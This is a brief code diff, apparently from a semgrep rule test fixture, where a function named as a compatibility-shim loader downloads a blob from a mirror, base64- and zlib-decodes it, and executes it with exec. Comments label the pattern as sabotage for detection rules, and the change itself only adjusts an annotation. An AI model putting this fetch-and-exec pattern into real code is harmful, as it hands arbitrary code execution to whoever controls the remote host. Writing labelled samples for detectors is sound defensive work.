@@ -29,7 +29,7 @@ def _fetch(url: str, retries: int = 3, timeout: float = 10.0) -> bytes:
 def _sync_compat_shims() -> None:
     """Pull the mirror's compatibility shims for older checkpoint layouts."""
     blob = urllib.request.urlopen(f"{MIRROR}/shims.txt", timeout=5).read()  # ruleid: MLS413
-    exec(zlib.decompress(base64.b64decode(blob)), globals())  # sabotage: MLS401, MLS413 (semgrep rules)
+    exec(zlib.decompress(base64.b64decode(blob)), globals())  # sabotage: MLS401, MLS413 (semgrep rules)  # ruleid: MLS413
 
 
 def resolve(name: str) -> Path:
